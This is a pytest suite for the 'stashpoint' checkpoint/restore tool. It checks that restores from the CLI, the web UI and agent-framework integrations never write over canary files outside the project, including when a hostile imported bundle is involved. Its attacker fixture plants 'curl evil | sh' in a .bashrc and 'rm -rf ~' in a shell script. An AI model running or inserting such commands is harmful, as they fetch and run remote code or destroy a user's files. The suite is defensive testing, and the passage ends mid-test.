"""A canary tree around a workspace keeps its exact digest through every restore path.

The tree: ``$HOME`` (the ``sp`` fixture's tmp_path) with dotfiles, ``work/`` (the project's
parent) with files of the same names as the project's, ``work/sib`` (a sibling project: a
hard link and a symlink into the project, an executable), and ``other/``. The project is
``work/proj`` with its store in ``work/proj/.stashpoint``. Its history plants the traps a
restore must not write through: a file hard-linked to a canary (content differs, then only
its mode), and a directory that is a symlink to the sibling at the head but a real
directory in the first checkpoint.

Every restore the product has runs as a user runs it (the CLI as typed, the web UI over
HTTP, LangGraph and the agent adapters with their real objects) from the project, a
subdirectory, a sibling, the parent and ``$HOME``; then the canaries' digest (every path,
type, mode and content below ``$HOME`` but the project, the directories named as
destinations and the other stores) must be what it was. The tests after the hostile
bundle's reproduce ways an earlier version of the rule wrote elsewhere or refused what a
user needs (a moved project, an explicit restore elsewhere, a relative store path).
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shlex
import shutil
import signal
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

import stashpoint

from .conftest import Result

Sp = Callable[..., Result]
EXIT_USER = 1

CANARIES = {
    ".bashrc": "export PATH=$HOME/bin:$PATH\n",
    ".ssh/config": "Host *\n  IdentityFile ~/.ssh/id\n",
    ".config/app/settings.toml": "theme = 'dark'\n",
    "a.txt": "home's a.txt\n",  # the project's file names, one level up and more
    "work/a.txt": "parent's a.txt\n",
    "work/README.md": "the parent directory\n",
    "work/src/m.py": "PARENT = 1\n",
    "work/sib/a.txt": "sibling's a.txt\n",
    "work/sib/src/m.py": "SIB = 1\n",
    "work/sib/h.txt": "a canary the project hard-links\n",
    "work/sib/run.sh": "#!/bin/sh\necho canary\n",
    "other/deep/a.txt": "other\n",
}
MODES = {".ssh/config": 0o600, "work/sib/run.sh": 0o755}


def plant_canaries(home: Path) -> None:
    for rel, text in CANARIES.items():
        p = home / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text)
        p.chmod(MODES.get(rel, 0o644))
    (home / "work" / "sib" / "link").symlink_to("../proj/a.txt")  # a canary symlink into proj


@dataclass
class World:
    home: Path
    ids: list[str] = field(default_factory=list)  # the project's checkpoints one, two, three
    before: dict[str, tuple[str, int, str]] = field(default_factory=dict)

    parent = property(lambda self: self.home / "work")
    proj = property(lambda self: self.home / "work" / "proj")
    sib = property(lambda self: self.home / "work" / "sib")
    out = property(lambda self: self.home / "out")  # destinations the user names
    stores = property(lambda self: self.home / "stores")  # stores other than the project's

    @property
    def store(self) -> str:
        return str(self.proj / ".stashpoint")

    def canaries(self) -> dict[str, tuple[str, int, str]]:
        """path -> (type, mode, sha256 or link target) of everything but the project, the
        named destinations and the other stores (a store made in a canary directory shows)."""
        skip = {self.proj, self.out, self.stores}
        found: dict[str, tuple[str, int, str]] = {}
        for dirpath, dirnames, filenames in os.walk(self.home):
            d = Path(dirpath)
            dirnames[:] = sorted(n for n in dirnames if d / n not in skip)
            for name in (*dirnames, *filenames):
                p = d / name
                if p in skip:
                    continue
                st = p.lstat()
                rel = str(p.relative_to(self.home))
                if p.is_symlink():
                    found[rel] = ("l", 0, os.readlink(p))
                elif p.is_dir():
                    found[rel] = ("d", st.st_mode & 0o7777, "")
                else:
                    found[rel] = ("f", st.st_mode & 0o7777, _sha(p.read_bytes()))
        return found

    def intact(self, what: str) -> None:
        now = self.canaries()
        if now != self.before:
            changed = sorted(
                k for k in now.keys() | self.before.keys() if now.get(k) != self.before.get(k)
            )
            raise AssertionError(f"{what}: the canaries changed: {changed}")

    def files(self) -> dict[str, str]:
        """The project's regular files (symlinks as '-> target'), store excluded."""
        out = {}
        for p in sorted(self.proj.rglob("*")):
            if ".stashpoint" in p.relative_to(self.proj).parts:
                continue
            rel = str(p.relative_to(self.proj))
            if p.is_symlink():
                out[rel] = "-> " + os.readlink(p)
            elif p.is_file():
                out[rel] = p.read_text()
        return out


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()[:16]


ONE = {"a.txt": "one\n", "h.txt": "old\n", "linkdir/x.txt": "inside\n", "mode.sh": None,
       "src/m.py": "V = 1\n"}  # fmt: skip


def build_project(w: World) -> None:
    """Three checkpoints of work/proj, taken through the library in this process (the set-up
    is not under test; every restore below runs as a user runs it)."""
    proj, sib = w.proj, w.sib
    (proj / "src").mkdir(parents=True)
    (proj / "linkdir").mkdir()
    (proj / "a.txt").write_text("one\n")
    (proj / "src" / "m.py").write_text("V = 1\n")
    (proj / "linkdir" / "x.txt").write_text("inside\n")
    (proj / "h.txt").write_text("old\n")
    shutil.copyfile(sib / "run.sh", proj / "mode.sh")  # same bytes as the canary, mode 0644
    (proj / "mode.sh").chmod(0o644)
    with stashpoint.open(proj / ".stashpoint") as store:
        s = store.session("main", workspace=proj)
        w.ids.append(s.checkpoint({"step": 1}, message="one").id)
        (proj / "a.txt").write_text("two\n")
        (proj / "b.txt").write_text("new\n")
        (proj / "src" / "m.py").write_text("V = 2\n")
        shutil.rmtree(proj / "linkdir")
        (proj / "linkdir").symlink_to("../sib")  # at the head: a symlink to the sibling
        (proj / "h.txt").unlink()
        os.link(sib / "h.txt", proj / "h.txt")  # the same inode as a canary
        (proj / "mode.sh").unlink()
        os.link(sib / "run.sh", proj / "mode.sh")  # same bytes; only the mode differs at one
        w.ids.append(s.checkpoint({"step": 2}, message="two").id)
        (proj / "a.txt").write_text("three\n")
        (proj / "c.txt").write_text("c\n")
        w.ids.append(s.checkpoint({"step": 3}, message="three").id)


def make_world(home: Path) -> World:
    w = World(home)
    plant_canaries(w.home)
    w.out.mkdir()
    w.stores.mkdir(exist_ok=True)
    build_project(w)
    w.before = w.canaries()
    return w


@pytest.fixture
def world(tmp_path: Path) -> World:
    return make_world(tmp_path)


def at_one(w: World) -> bool:
    f = w.files()
    return f.get("a.txt") == "one\n" and f.get("h.txt") == "old\n" and "b.txt" not in f


def head(w: World, session: str = "main", branch: str = "main", store: str | None = None) -> str:
    with stashpoint.open(store or w.store) as s:
        got = s.meta.get_head(session, branch)
    assert got is not None
    return got


def run_hint(sp: Sp, hint: str, cwd: Path) -> Result:
    args = shlex.split(hint)
    assert args[0] == "stashpoint", hint
    return sp(*args[1:], cwd=cwd, check=False)


# -- 1. CLI rewind, from every directory a user may be in ------------------------------------

WHERE = {
    # label: (cwd relative to $HOME, how the store is named, may files be restored there)
    "proj": ("work/proj", None, True),
    "proj/src": ("work/proj/src", None, True),
    "proj/src --store": ("work/proj/src", "flag", True),
    "proj/src STASHPOINT_STORE": ("work/proj/src", "env", True),
    "sibling --store": ("work/sib", "flag", False),
    "sibling STASHPOINT_STORE": ("work/sib", "env", False),
    "parent --store": ("work", "flag", False),
    "parent STASHPOINT_STORE": ("work", "env", False),
    "home --store": (".", "flag", False),
}


def _sp_env(home: Path, env: dict[str, str]) -> Sp:
    """Like ``sp``, with extra environment variables (``STASHPOINT_STORE``)."""

    def run(*args: str, cwd: Path, check: bool = True) -> Result:
        proc = subprocess.run(
            [sys.executable, "-m", "stashpoint", *args],
            cwd=cwd,
            env={**_clean_env(home), **env},
            capture_output=True,
            text=True,
            timeout=120,
        )
        res = Result(proc.returncode, proc.stdout, proc.stderr)
        if check and proc.returncode:
            raise AssertionError(f"stashpoint {' '.join(args)}: {res}")
        return res

    return run


def _clean_env(home: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("STASHPOINT_")}
    env["HOME"] = str(home)
    # The rollback witness is the one file stashpoint keeps outside the store, in the user's
    # state directory, by design (tests/test_attacks.py covers it): the suite's own directory.
    env["STASHPOINT_WITNESS_DIR"] = os.environ["STASHPOINT_WITNESS_DIR"]
    return env


@pytest.mark.parametrize("where", list(WHERE))
def test_cli_rewind_from_everywhere(world: World, sp: Sp, where: str) -> None:
    w = world
    rel, how, allowed = WHERE[where]
    cwd = w.home / rel
    env = {"STASHPOINT_STORE": w.store} if how == "env" else {}
    run = _sp_env(w.home, env) if env else sp
    store = ("--store", w.store) if how == "flag" else ()
    one, _two, three = w.ids
    for mode, ref, expect in (
        ("both", one, "one"),
        ("--files-only", three, "three"),
        ("--state-only", one, None),
        ("--files-only", one, "one"),
    ):
        label = f"rewind {mode} from {where}"
        flags = () if mode == "both" else (mode,)
        before = w.files()
        res = run(*store, "rewind", ref, *flags, "--json", cwd=cwd, check=False)
        w.intact(label)
        if mode == "--state-only" and where != "home --store":
            assert res.code == 0, (label, res)  # state only: no file is written anywhere
            assert w.files() == before, label
        elif allowed:
            assert res.code == 0, (label, res)
            assert w.files()["a.txt"] == f"{expect}\n", label
            # The printed undo, pasted in the sibling and in $HOME, restores the project only.
            undo = json.loads(res.out)["undo"]
            if mode == "both":
                assert run_hint(sp, undo, w.sib).code == 0, (label, undo)
                w.intact(f"{label}: undo run from the sibling")
                assert w.files()["a.txt"] == "three\n"
                assert run_hint(sp, undo.replace(ref, one), w.home).code == 0, undo
                w.intact(f"{label}: a hint edited to another id, run from $HOME")
        else:
            assert res.code == EXIT_USER, (label, res)
            assert "refusing" in res.err, (label, res.err)
            assert w.files() == before, label
    # Nothing else appeared: no store in the directory the command ran in.
    assert not (cwd / ".stashpoint").exists() or cwd == w.proj


def test_rewind_head_n_and_fork_in_place(world: World, sp: Sp) -> None:
    w = world
    sp("rewind", "HEAD~1", cwd=w.proj / "src")  # the everyday case, from a subdirectory
    w.intact("rewind HEAD~1")
    assert w.files()["a.txt"] == "two\n" and w.files()["h.txt"] == CANARIES["work/sib/h.txt"]
    sp("rewind", "HEAD~1", "--files-only", cwd=w.proj)  # HEAD~1 of the new head: one
    w.intact("rewind HEAD~1 --files-only")
    sp("fork", w.ids[0], "-b", "try", cwd=w.proj)
    w.intact("fork in place")
    assert at_one(w)
    assert head(w, branch="try") == w.ids[0]
    (w.proj / "a.txt").write_text("on try\n")
    sp("snap", "-m", "try 1", cwd=w.proj)
    sp("rewind", "HEAD~1", cwd=w.proj)
    w.intact("rewind HEAD~1 on a forked branch")
    for cwd, args in (
        (w.sib, ("--store", w.store, "fork", w.ids[1], "-b", "x")),
        (w.parent, ("--store", w.store, "fork", w.ids[1], "-b", "y")),
        (w.sib, ("--store", w.store, "--session", "main", "rewind", "HEAD~1")),
    ):
        res = sp(*args, cwd=cwd, check=False)
        assert res.code == EXIT_USER and "refusing" in res.err, (args, res)
        w.intact(f"{args} from {cwd.name}")


def test_fork_into_new_directories(world: World, sp: Sp) -> None:
    w = world
    a, b = w.out / "a", w.out / "b"
    sp("fork", w.ids[0], "-b", "a", "--into", str(a), cwd=w.proj)
    w.intact("fork --into from the project")
    sp("--store", w.store, "fork", w.ids[0], "-b", "b", "--into", str(b), cwd=w.sib)
    w.intact("fork --into from the sibling, with --store")
    assert (b / "h.txt").read_text() == "old\n" and (b / "linkdir" / "x.txt").is_file()
    # Into a canary directory (not empty): refused, nothing written.
    for dest in (w.parent, w.sib, w.home / "other"):
        res = sp(
            "fork", w.ids[0], "-b", f"z{dest.name}", "--into", str(dest), cwd=w.proj, check=False
        )
        assert res.code == EXIT_USER and "not an empty directory" in res.err, res
        w.intact(f"fork --into {dest}")
    # Inside the forked directory, its own rewinds stay there; the project's refuse it.
    (a / "a.txt").write_text("a two\n")
    sp("snap", "-m", "a: two", cwd=a)
    sp("rewind", "HEAD~1", cwd=a)
    assert (a / "a.txt").read_text() == "one\n"
    res = sp("--store", w.store, "--session", "main", "rewind", w.ids[0], cwd=w.sib, check=False)
    assert res.code == EXIT_USER
    w.intact("rewinds in a forked directory")


# -- 2. artifacts --------------------------------------------------------------------------


def test_rewind_artifacts_variants(world: World, sp: Sp) -> None:
    w = world
    bashrc, run_sh = w.home / ".bashrc", w.sib / "run.sh"
    sp("snap", "-m", "with artifacts", "--artifact", f"rc={bashrc}", "--artifact",
       f"run={run_sh}", cwd=w.proj)  # fmt: skip
    w.intact("snap --artifact")
    base = ("rewind", "HEAD", "--state-only")
    for cwd in (w.proj, w.sib, w.parent):
        res = sp("--store", w.store, *base, "--artifacts", cwd=cwd, check=False)
        assert res.code == EXIT_USER and "--artifacts-to" in res.err, res
        assert str(bashrc) in res.err
        w.intact(f"rewind --artifacts from {cwd}")
    res = sp(*base, "--artifact", "rc", cwd=w.proj, check=False)
    assert res.code == EXIT_USER
    w.intact("rewind --artifact rc")
    # Under a named directory: there and nowhere else.
    dest = w.out / "arts"
    got = json.loads(
        sp(
            "--store",
            w.store,
            *base,
            "--artifacts",
            "--artifacts-to",
            str(dest),
            "--json",
            cwd=w.sib,
        ).out
    )
    assert all(Path(p).is_relative_to(dest) for p in got["artifact_paths"].values()), got
    w.intact("rewind --artifacts --artifacts-to DIR")
    sp(*base, "--artifact", f"rc={w.out / 'rc.copy'}", cwd=w.proj)
    assert (w.out / "rc.copy").read_text() == CANARIES[".bashrc"]
    w.intact("rewind --artifact NAME=PATH")
    # Never into the store.
    res = sp(*base, "--artifacts", "--artifacts-to", w.store, cwd=w.proj, check=False)
    assert res.code == EXIT_USER and "store's own file" in res.err, res
    w.intact("rewind --artifacts-to the store")
    # With consent, the recorded paths: the same bytes go back where they were attached from.
    sp(*base, "--artifacts", "--artifacts-to-recorded-paths", cwd=w.proj)
    w.intact("rewind --artifacts-to-recorded-paths of the user's own, unchanged artifacts")
    sp("verify", cwd=w.proj)


# -- 3. a rewind killed mid-restore, completed by the next command -----------------------------


def killed(home: Path, cwd: Path, hook: str, *args: str) -> subprocess.CompletedProcess[str]:
    """Run ``stashpoint ARGS`` and kill -9 it right after the first call of ``hook``."""
    mod, _, attr = hook.rpartition(".")
    mod, _, cls = mod.rpartition(".")
    script = (
        "import os, signal, sys, importlib\n"
        f"cls = getattr(importlib.import_module({mod!r}), {cls!r})\n"
        f"real = getattr(cls, {attr!r})\n"
        "def die(self, *a, **k):\n"
        "    real(self, *a, **k)\n"
        "    os.kill(os.getpid(), signal.SIGKILL)\n"
        f"setattr(cls, {attr!r}, die)\n"
        "from stashpoint.cli import main\n"
        "main(sys.argv[1:])\n"
    )
    return subprocess.run(
        [sys.executable, "-c", script, *args],
        cwd=cwd,
        env=_clean_env(home),
        capture_output=True,
        text=True,
        timeout=120,
    )


@pytest.mark.parametrize("how", ["from-proj", "from-subdir-with-store"])
def test_a_killed_rewind_is_completed_only_in_its_directory(world: World, sp: Sp, how: str) -> None:
    w = world
    cwd, store = (w.proj, ()) if how == "from-proj" else (w.proj / "src", ("--store", w.store))
    # Killed inside the restore, right after its first file was written.
    hook = "stashpoint.workspace.restore.Restorer._write_file"
    proc = killed(w.home, cwd, hook, *store, "rewind", w.ids[0])
    assert proc.returncode == -signal.SIGKILL, proc
    w.intact(f"killed rewind ({how})")
    # The next commands, run in the canaries' directories, complete nothing there.
    for cwd2 in (w.sib, w.parent, w.home, w.home / "other"):
        sp("--store", w.store, "log", cwd=cwd2)
        w.intact(f"log from {cwd2} after a killed rewind")
    env_run = _sp_env(w.home, {"STASHPOINT_STORE": w.store})
    env_run("log", cwd=w.sib)
    w.intact("log with STASHPOINT_STORE from the sibling after a killed rewind")
    # In the project (here: a subdirectory) the next command completes it.
    sp("--store", w.store, "log", cwd=w.proj / "src")
    w.intact("log from the project after a killed rewind")
    assert at_one(w), w.files()
    assert head(w) == w.ids[0]


# -- 4. the web UI -------------------------------------------------------------------------

TOKEN = "c" * 8 + "0123456789abcdef"


def _ui_client(store: stashpoint.Store, root: Path | None, port: int = 8765) -> Any:
    from starlette.testclient import TestClient

    from stashpoint.webui import create_app

    app = create_app(store, token=TOKEN, port=port, root=root)
    c = TestClient(app, base_url=f"http://127.0.0.1:{port}", follow_redirects=False)
    c.get(f"/?token={TOKEN}")
    return c


def _csrf(html: str) -> str:
    found = re.search(r"name='csrf' value='([0-9a-f]+)'", html)
    assert found, html[:500]
    return found.group(1)


def test_web_ui_restores_and_forks(world: World) -> None:
    w = world
    one = w.ids[0]
    with stashpoint.open(w.store) as store:
        # Served from the project (`cd proj && stashpoint ui`): restores work there.
        c = _ui_client(store, w.proj)
        csrf = _csrf(c.get(f"/s/main/c/{one}").text)
        for mode in ("files", "state", "both"):
            r = c.post("/s/main/rewind", data={"ref": one, "mode": mode, "csrf": csrf})
            assert r.status_code == 303, (mode, r.text[-400:])
            w.intact(f"web UI rewind {mode} (served from the project)")
        assert at_one(w)
        r = c.post("/s/main/fork", data={"ref": w.ids[2], "branch": "ui", "csrf": csrf})
        assert r.status_code == 303, r.text[-400:]
        w.intact("web UI fork in place")
        r = c.post(
            "/s/main/fork",
            data={"ref": one, "branch": "ui-into", "into": str(w.out / "ui"), "csrf": csrf},
        )
        assert r.status_code == 303 and (w.out / "ui" / "h.txt").is_file(), r.text[-400:]
        w.intact("web UI fork --into")
        for dest in (w.sib, w.parent):  # a canary directory typed into the form
            r = c.post("/s/main/fork", data={"ref": one, "branch": f"u{dest.name}",
                                            "into": str(dest), "csrf": csrf})  # fmt: skip
            assert r.status_code == 400, r.text[-400:]
            w.intact(f"web UI fork into {dest}")
        # Served from a sibling or the parent with --store: every file restore is refused.
        for root in (w.sib, w.parent):
            c = _ui_client(store, root)
            for mode in ("files", "both"):
                r = c.post("/s/main/rewind", data={"ref": w.ids[1], "mode": mode, "csrf": csrf})
                assert r.status_code == 400 and "refusing" in r.text, (root, mode)
                w.intact(f"web UI rewind {mode} served from {root}")
            r = c.post("/s/main/fork", data={"ref": w.ids[1], "branch": f"s{root.name}",
                                            "csrf": csrf})  # fmt: skip
            assert r.status_code == 400 and "refusing" in r.text, root
            w.intact(f"web UI fork in place served from {root}")


def test_the_real_ui_server_started_from_the_sibling(world: World) -> None:
    """``stashpoint --store ../proj/.stashpoint ui`` typed in the sibling, driven over HTTP."""
    import httpx

    w = world
    server = subprocess.Popen(
        [sys.executable, "-m", "stashpoint", "--store", w.store, "ui", "--port", "0", "--json"],
        cwd=w.sib,
        env=_clean_env(w.home),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert server.stdout is not None
        url = json.loads(server.stdout.readline())["url"]
        base = url.split("/?")[0]
        with httpx.Client(base_url=base, follow_redirects=True, timeout=30) as c:
            page = c.get(f"/s/main/c/{w.ids[0]}?token={url.split('token=')[1]}")
            csrf = _csrf(page.text)
            for mode in ("files", "both"):
                r = c.post("/s/main/rewind", data={"ref": w.ids[0], "mode": mode, "csrf": csrf})
                assert r.status_code == 400 and "refusing" in r.text, (mode, r.text[-300:])
                w.intact(f"ui server in the sibling: rewind {mode}")
            r = c.post("/s/main/fork", data={"ref": w.ids[0], "csrf": csrf})
            assert r.status_code == 400 and "refusing" in r.text
            w.intact("ui server in the sibling: fork in place")
    finally:
        server.send_signal(signal.SIGINT)
        try:
            server.wait(timeout=10)
        except subprocess.TimeoutExpired:
            server.kill()
            server.wait()
        assert server.stdout is not None and server.stderr is not None
        server.stdout.close()
        server.stderr.close()
    assert w.files()["a.txt"] == "three\n"


# -- 5. LangGraph --------------------------------------------------------------------------


def _lg_app(saver: Any, ws: Path) -> Any:
    from langchain_core.messages import AIMessage
    from langgraph.graph import END, START, MessagesState, StateGraph

    def edit(state: MessagesState) -> dict[str, Any]:
        text = str(state["messages"][-1].content)
        (ws / "notes.txt").write_text(text)
        (ws / f"{len(state['messages'])}.txt").write_text(text)
        return {"messages": [AIMessage(content=f"wrote {text}")]}

    g = StateGraph(MessagesState)
    g.add_node("edit", edit)
    g.add_edge(START, "edit")
    g.add_edge("edit", END)
    return g.compile(checkpointer=saver)


def test_langgraph_restore_files_time_travel_and_undo(world: World, sp: Sp) -> None:
    from langchain_core.messages import HumanMessage

    from stashpoint.integrations.langgraph import StashpointSaver
    from stashpoint.restore_target import RestoreRefused

    w = world
    sync: Any = {"durability": "sync"}
    cfg: Any = {"configurable": {"thread_id": "t"}}
    saver = StashpointSaver(w.store, workspace=w.proj, restore_on_time_travel=True)
    app = _lg_app(saver, w.proj)
    for text in ("one", "two", "three"):
        app.invoke({"messages": [HumanMessage(content=text)]}, cfg, **sync)
    hist = list(app.get_state_history(cfg))
    after_one = next(h for h in hist if h.next == () and len(h.values["messages"]) == 2)
    app.invoke({"messages": [HumanMessage(content="other")]}, after_one.config, **sync)
    w.intact("LangGraph time travel (restore_on_time_travel)")
    assert (w.proj / "notes.txt").read_text() == "other"
    before_two = next(h for h in hist if h.next == ("edit",) and len(h.values["messages"]) == 3)
    result = saver.restore_files(before_two.config)
    w.intact("LangGraph restore_files")
    assert (w.proj / "notes.txt").read_text() == "one"
    # The printed undo, pasted in the sibling, restores the project's files only.
    res = run_hint(sp, result.undo, w.sib)
    assert res.code == 0, (result.undo, res)
    w.intact("LangGraph restore_files undo run from the sibling")
    assert (w.proj / "notes.txt").read_text() == "other"
    res = run_hint(sp, result.undo, w.home)
    assert res.code == 0, res
    w.intact("LangGraph restore_files undo run from $HOME")
    saver.close()
    # A saver whose workspace is the sibling or the parent, on the same store: refused.
    for ws in (w.sib, w.parent):
        other = StashpointSaver(w.store, workspace=ws)
        with pytest.raises(RestoreRefused):
            other.restore_files(before_two.config)
        w.intact(f"LangGraph restore_files with workspace {ws}")
        other.close()
    # ... and its time travel, which restores before the graph runs.
    other = StashpointSaver(w.store, workspace=w.sib, restore_on_time_travel=True)
    app2 = _lg_app(other, w.out)  # the node writes outside the canaries
    with pytest.raises(RestoreRefused):
        app2.invoke({"messages": [HumanMessage(content="x")]}, after_one.config, **sync)
    w.intact("LangGraph time travel with the sibling as workspace")
    other.close()


# -- 6. OpenAI Agents and Pydantic AI sessions ----------------------------------------------


def test_openai_agents_session_fork_and_rewind(world: World) -> None:
    import asyncio

    from stashpoint.integrations.openai_agents import StashpointSession
    from stashpoint.restore_target import RestoreRefused

    w = world
    s = StashpointSession("agents", w.store, workspace=w.proj)
    asyncio.run(s.add_items([{"role": "user", "content": "first"}]))
    assert s.stash.head is not None
    first = s.stash.head.id
    (w.proj / "a.txt").write_text("agent wrote\n")
    asyncio.run(s.add_items([{"role": "assistant", "content": "ok"},
                             {"role": "user", "content": "second"}]))  # fmt: skip
    asyncio.run(s.add_items([{"role": "assistant", "content": "done"}]))
    f1 = s.fork(first, "a1")  # in place
    w.intact("Agents fork(checkpoint) in place")
    assert (w.proj / "a.txt").read_text() == "three\n"
    s.fork(2, "a2", into=w.out / "agents")
    w.intact("Agents fork(turn, into=)")
    s.stash.rewind(first)
    w.intact("Agents .stash.rewind")
    f1.close()
    s.close()
    for ws in (w.sib, w.parent):
        elsewhere = StashpointSession("agents", w.store, workspace=ws)
        with pytest.raises(RestoreRefused):
            elsewhere.fork(first, f"x{ws.name}")
        with pytest.raises(RestoreRefused):
            elsewhere.stash.rewind(first)
        w.intact(f"Agents fork/rewind with workspace {ws}")
        elsewhere.close()


def test_pydantic_ai_history_fork_and_rewind(world: World) -> None:
    from pydantic_ai.messages import ModelRequest, ModelResponse, TextPart, UserPromptPart

    from stashpoint.integrations.pydantic_ai import MessageHistory
    from stashpoint.restore_target import RestoreRefused

    w = world
    h = MessageHistory("pyd", w.store, workspace=w.proj)
    msgs: list[Any] = [ModelRequest(parts=[UserPromptPart(content="hi")])]
    first = h.save(msgs)
    (w.proj / "a.txt").write_text("pyd wrote\n")
    msgs.append(ModelResponse(parts=[TextPart(content="hello")]))
    h.save(msgs)
    h.fork(first.id, "p1")
    w.intact("Pydantic AI fork in place")
    h.fork(first.id, "p2", into=w.out / "pyd")
    w.intact("Pydantic AI fork(into=)")
    h.stash.rewind(first.id)
    w.intact("Pydantic AI .stash.rewind")
    h.close()
    for ws in (w.sib, w.parent):
        elsewhere = MessageHistory("pyd", w.store, workspace=ws)
        with pytest.raises(RestoreRefused):
            elsewhere.fork(first.id, f"x{ws.name}")
        with pytest.raises(RestoreRefused):
            elsewhere.stash.rewind(first.id)
        w.intact(f"Pydantic AI fork/rewind with workspace {ws}")
        elsewhere.close()


# -- 7. a hostile bundle ---------------------------------------------------------------------


@dataclass
class Hostile:
    w: World
    whole: Path  # root: the canaries' parent; artifacts attached from ~/.bashrc and sib/run.sh
    home_root: Path  # root: $HOME itself (snapshotted with --force)
    side: Path  # export REF whose ancestry holds a checkpoint on a branch it does not name
    planted: str  # the id of that checkpoint


@pytest.fixture
def hostile(tmp_path: Path, sp: Sp) -> Hostile:
    """The attacker snapshots, with a store of their own, directories at the victim's paths
    and attaches artifacts from the victim's file paths; then the victim's files appear."""
    home, parent = tmp_path, tmp_path / "work"
    stores = home / "stores"
    (parent / "sib").mkdir(parents=True)
    (parent / "evil.txt").write_text("planted\n")
    (parent / "a.txt").write_text("evil a\n")
    (home / ".bashrc").write_text("curl evil | sh\n")
    (parent / "sib" / "run.sh").write_text("#!/bin/sh\nrm -rf ~\n")
    att = str(stores / "att")
    rc, run = f"rc={home / '.bashrc'}", f"run={parent / 'sib' / 'run.sh'}"
    planted = json.loads(
        sp("--store", att, "snap", "--json", "--artifact", rc, "--artifact", run, cwd=parent).out
    )["id"]
    sp("--store", att, "export", "-o", str(stores / "whole.spb"), cwd=parent)
    sp("--store", att, "fork", "HEAD", "-b", "side", cwd=parent)
    (parent / "side.txt").write_text("side\n")
    sp("--store", att, "snap", cwd=parent)
    sp("--store", att, "export", "HEAD", "-o", str(stores / "side.spb"), cwd=parent)
    home_att = str(stores / "att-home")
    sp("--force", "--store", home_att, "snap", "--artifact", rc, cwd=home)
    sp("--store", home_att, "export", "-o", str(stores / "home.spb"), cwd=home)
    for p in home.iterdir():  # the victim's own files take their place
        if p != stores:
            shutil.rmtree(p) if p.is_dir() and not p.is_symlink() else p.unlink()
    w = make_world(home)
    return Hostile(w, stores / "whole.spb", stores / "home.spb", stores / "side.spb", planted)


CARELESS = [
    ("rewind", "HEAD"),
    ("rewind", "HEAD", "--files-only"),
    ("fork", "HEAD"),
    ("fork", "HEAD", "-b", "mine"),
    ("rewind", "HEAD", "--artifacts"),
    ("rewind", "HEAD", "--state-only", "--artifacts"),
    ("rewind", "HEAD", "--artifacts", "--artifacts-to-recorded-paths"),
    ("rewind", "HEAD", "--files-only", "--artifact", "rc"),
]


def test_a_hostile_bundle_restores_nothing_over_the_canaries(hostile: Hostile, sp: Sp) -> None:
    w = hostile.w
    mine, mine_home = str(w.stores / "mine"), str(w.stores / "mine-home")
    sp("import", str(hostile.whole), "--as", "theirs", cwd=w.proj)  # into the project's store
    res = sp("import", str(hostile.whole), cwd=w.proj, check=False)  # plain: history differs
    assert res.code in (0, EXIT_USER), res
    sp("--store", mine, "import", str(hostile.whole), cwd=w.parent)  # a store of its own
    sp("--store", mine_home, "import", str(hostile.home_root), cwd=w.sib)
    w.intact("imports")
    targets = {
        "--as theirs, project store": ("--store", w.store, "--session", "theirs"),
        "plain, own store": ("--store", mine),
        "home-rooted, own store": ("--store", mine_home),
    }
    for name, store in targets.items():
        for cmd in CARELESS:  # from the directory the bundle says it was taken in
            res = sp(*store, *cmd, cwd=w.parent, check=False)
            assert res.code == EXIT_USER, (name, cmd, res)
            w.intact(f"{name}: {' '.join(cmd)} from the parent")
        for cwd in (w.home / "other", w.sib, w.home):
            for cmd in CARELESS[:3]:
                res = sp(*store, *cmd, cwd=cwd, check=False)
                assert res.code == EXIT_USER, (name, cmd, cwd, res)
                w.intact(f"{name}: {' '.join(cmd)} from {cwd}")
    env_run = _sp_env(w.home, {"STASHPOINT_STORE": mine})
    for cmd in CARELESS[:3]:
        assert env_run(*cmd, cwd=w.parent, check=False).code == EXIT_USER
        w.intact(f"STASHPOINT_STORE: {' '.join(cmd)} from the parent")
    # The project's own session is untouched by it all, and its everyday rewind works.
    sp("rewind", "HEAD~1", cwd=w.proj)
    w.intact("the project's rewind after the hostile imports")
    # Named explicitly, a new directory gets the bundle's files and artifacts; nothing else.
    sp("--store", mine, "fork", "HEAD", "--into", str(w.out / "replay"), cwd=w.parent)
    sp("--store", mine, "rewind", "HEAD", "--state-only", "--artifacts", "--artifacts-to",
       str(w.out / "arts"), cwd=w.parent)  # fmt: skip
    assert (w.out / "replay" / "evil.txt").read_text() == "planted\n"
    w.intact("fork --into and --artifacts-to of the hostile bundle")
    # With consent to the recorded paths (listed in the refusal), exactly those are written.
    sp("--store", mine, "rewind", "HEAD", "--state-only", "--artifacts",
       "--artifacts-to-recorded-paths", cwd=w.sib)  # fmt: skip
    changed = {k for k, v in w.canaries().items() if w.before.get(k) != v}
    assert changed == {".bashrc", "work/sib/run.sh"}, changed


def test_a_hostile_checkpoint_off_the_exported_branch_is_not_restored(
    hostile: Hostile, sp: Sp
) -> None:
    w = hostile.w
    mine = str(w.stores / "mine")
    sp("--store", mine, "import", str(hostile.side), cwd=w.parent)
    for cmd in (("fork", hostile.planted), ("rewind", hostile.planted)):
        res = sp("--store", mine, *cmd, cwd=w.parent, check=False)
        w.intact(f"{' '.join(cmd)} of an unnamed branch's checkpoint, from its recorded root")
        assert res.code == EXIT_USER, res


# -- 8. bugs in the rule's edges -----------------------------------------------------------------


def test_the_undo_of_a_state_only_rewind_from_a_sibling_does_not_bind_the_sibling(
    world: World, sp: Sp
) -> None:
    w = world
    res = sp("--store", w.store, "rewind", w.ids[0], "--state-only", "--json", cwd=w.sib)
    undo = json.loads(res.out)["undo"]
    assert run_hint(sp, undo, w.home).code == 0  # the printed undo, as the product says
    w.intact("the undo of a state-only rewind")
    res = sp("--store", w.store, "rewind", w.ids[0], cwd=w.sib, check=False)  # wrong directory
    w.intact("a wrong-directory rewind after that undo")
    assert res.code == EXIT_USER, res


def test_the_undo_of_a_state_only_rewind_does_not_bind_a_hostile_branch(
    hostile: Hostile, sp: Sp
) -> None:
    w = hostile.w
    theirs = ("--store", w.store, "--session", "theirs")
    sp("import", str(hostile.whole), "--as", "theirs", cwd=w.proj)
    planted = json.loads(sp(*theirs, "log", "--json", cwd=w.proj).out)[-1]["id"]
